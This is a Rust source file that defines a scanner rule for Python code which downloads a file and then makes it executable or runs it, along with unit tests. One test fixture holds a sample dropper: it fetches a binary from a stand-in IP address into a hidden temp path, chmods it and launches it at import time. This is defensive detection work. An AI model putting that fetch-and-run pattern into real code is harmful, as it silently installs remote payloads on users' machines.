//! download-execute: a file is downloaded and then made executable or run (`urlretrieve` +
//! `chmod` + `subprocess`/`os.startfile`).

use crate::catalog::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::facts::NET;
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "download-execute",
    severity: Severity::High,
    summary: "A downloaded file is made executable or run",
    help: "Reports code that downloads a file (urlretrieve, requests/urlopen content written to \
           disk, wget.download) and, in the same function, marks it executable (os.chmod) or runs \
           it (subprocess, os.system, os.startfile). Dropping and running a binary fetched at run \
           time is how second-stage payloads arrive. Critical at install or import time, high in \
           a function body. Installers of tools (e.g. downloading a browser driver) look the same \
           and deserve review: check the source and whether a hash is verified.",
};

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    // Group by run context + approximate scope: consecutive calls in the same context.
    let downloads: Vec<_> = facts
        .calls
        .iter()
        .filter(|c| {
            matches!(
                c.name.as_str(),
                "urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download"
            ) || (c.method() == "write" && c.arg_taint() & NET != 0)
                || (c.is_network() && c.kw("stream").is_some())
        })
        .collect();
    if downloads.is_empty() {
        return;
    }
    for c in &facts.calls {
        let runs = c.is_process() || c.name == "os.startfile";
        let chmod =
            c.name == "os.chmod" || c.name == "os.fchmod" || c.all_text().contains("chmod +x");
        if !(runs || chmod) {
            continue;
        }
        let Some(d) = downloads
            .iter()
            .find(|d| d.ctx == c.ctx && d.line <= c.line && c.line - d.line <= 40)
        else {
            continue;
        };
        let sev = c.ctx.pick(Severity::Critical, Severity::High);
        out.emit(
            &INFO,
            sev,
            Confidence::Medium,
            c.line,
            format!(
                "file downloaded on line {} is {} with `{}`",
                d.line,
                if chmod { "made executable" } else { "run" },
                c.name
            ),
            c.note.as_deref(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn urlretrieve_chmod_run() {
        let src = "import os, subprocess, urllib.request\np = '/tmp/.cache/agent'\nurllib.request.urlretrieve('http://192.0.2.3/agent', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n";
        assert_eq!(
            worst("download-execute", "pkg/__init__.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn download_without_run_or_run_without_download() {
        let a = "import urllib.request\ndef get():\n    urllib.request.urlretrieve('https://example.invalid/data.csv', 'data.csv')\n";
        assert_eq!(worst("download-execute", "pkg/a.py", a), None);
        let b = "import subprocess\ndef f():\n    subprocess.run(['git', 'pull'])\n";
        assert_eq!(worst("download-execute", "pkg/a.py", b), None);
    }
}
